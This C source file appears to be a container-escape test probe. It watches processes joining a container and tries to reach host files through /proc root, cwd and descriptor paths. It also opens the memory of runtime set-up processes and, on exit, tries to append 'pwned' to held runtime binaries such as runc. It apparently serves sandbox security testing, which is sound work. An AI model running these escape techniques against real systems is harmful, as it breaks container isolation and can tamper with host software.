/*
 * watch_probe: what a hostile process of a container gets hold of while others join. It looks at every process that comes, as
 * long and as often as it can: at its root, its working directory, its descriptors, its memory and its program.
 *
 *   watch_probe MARK      MARK is the whole path of a file of the host
 *
 * It says "ready", then a line for each new thing it got hold of, and after SIGTERM what came of writing to the programs it held. A
 * process is one of the set-up while its program still is the runtime's own.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../../../../../"
#define MOST 64

static const char *mark;
static int held[MOST], count_held, count_said;
static char said[MOST][512];

static volatile sig_atomic_t ended;

static void on_end(int signal_number) {
	ended = signal_number;
}

/* Each thing is said once. */
static int is_new(const char *text) {
	for (int i = 0; i < count_said; i++)
		if (!strcmp(said[i], text)) return 0;
	if (count_said == MOST) return 0;
	snprintf(said[count_said++], sizeof said[0], "%s", text);
	return puts(text), 1;
}

/* A path that leads to the mark, if it begins on the host. */
static void reach(int pid, const char *way) {
	char path[4096];
	struct stat st;
	snprintf(path, sizeof path, "/proc/%d/%s/" UP "%s", pid, way, mark + 1);
	if (stat(path, &st) == 0) {
		snprintf(path, sizeof path, "reached the host by %s", way);
		is_new(path);
	}
	snprintf(path, sizeof path, "/proc/%d/%s%s", pid, way, mark);
	if (stat(path, &st) == 0) is_new("reached the host by a root");
}

static void look_at_descriptors(int pid) {
	char path[64], target[400], line[512];
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *dir = opendir(path);
	for (struct dirent *entry; dir && (entry = readdir(dir));) {
		if (entry->d_name[0] == '.') continue;
		snprintf(path, sizeof path, "/proc/%d/fd/%.16s", pid, entry->d_name);
		ssize_t n = readlink(path, target, sizeof target - 1);
		if (n <= 0) continue;
		target[n] = 0;
		target[strcspn(target, "[")] = 0; /* pipes and sockets by their kind */
		struct stat st;
		int is_directory = stat(path, &st) == 0 && S_ISDIR(st.st_mode);
		snprintf(line, sizeof line, "descriptor of the set-up: %s%s", target, is_directory ? " (a directory)" : "");
		if (atoi(entry->d_name) > 2 && is_new(line) && is_directory) reach(pid, path + 6 + strcspn(path + 6, "/") + 1);
	}
	if (dir) closedir(dir);
}

/* Programs are held by a handle and written to when nobody runs them any more. */
static int is_set_up(int pid, int exe_new[1]) {
	char path[64], link[400], line[512];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t n = readlink(path, link, sizeof link - 1);
	if (n <= 0) return 0;
	link[n] = 0;
	snprintf(line, sizeof line, "program %s", link);
	if ((*exe_new = is_new(line)) && count_held < MOST) {
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0) held[count_held++] = fd;
	}
	return strstr(link, "tsbox-shim") || strstr(link, "runc") || strstr(link, "crun");
}

/* Who can trace the set-up has its rights. */
static void look_at_rights(int pid) {
	char path[64], text[4096], line[512];
	int none;
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (fd >= 0) close(fd);
	if (n <= 0 || !is_set_up(pid, &none)) return;
	text[n] = 0;
	const char *rights = strstr(text, "CapPrm:\t");
	snprintf(line, sizeof line, "rights of the set-up: %.16s", rights ? rights + 8 : "?");
	is_new(line);
}

static void look(int pid) {
	char path[64];
	int none;
	reach(pid, "root");
	reach(pid, "cwd");
	if (!is_set_up(pid, &none)) return;
	look_at_descriptors(pid);
	look_at_rights(pid);
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int mem = open(path, O_RDWR | O_CLOEXEC);
	if (mem >= 0 && is_set_up(pid, &none)) is_new("memory of the set-up");
	if (mem >= 0) close(mem);
}

static void write_to_programs(void) {
	char path[64], target[400];
	for (int i = 0; i < count_held; i++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
		ssize_t n = readlink(path, target, sizeof target - 1);
		target[n > 0 ? n : 0] = 0;
		int out = open(path, O_WRONLY | O_APPEND | O_CLOEXEC), error = errno;
		if (out < 0) printf("write %s: errno=%d\n", target, error);
		else printf("write %s: %s\n", target, write(out, "pwned\n", 6) == 6 ? "ok" : "refused");
	}
}

int main(int argc, char **argv) {
	if (argc != 2) return fputs("watch_probe MARK\n", stderr), 2;
	mark = argv[1];
	signal(SIGTERM, on_end);
	int own = getpid(), seen = 0, last = own;
	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("ready");
	do {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc && (entry = readdir(proc));) {
			int pid = atoi(entry->d_name);
			if (pid <= 1 || pid == own) continue;
			if (pid > last) seen += 1, last = pid;
			look(pid);
		}
		if (proc) closedir(proc);
	} while (!ended);
	write_to_programs();
	return printf("watched %d\n", seen), 0;
}
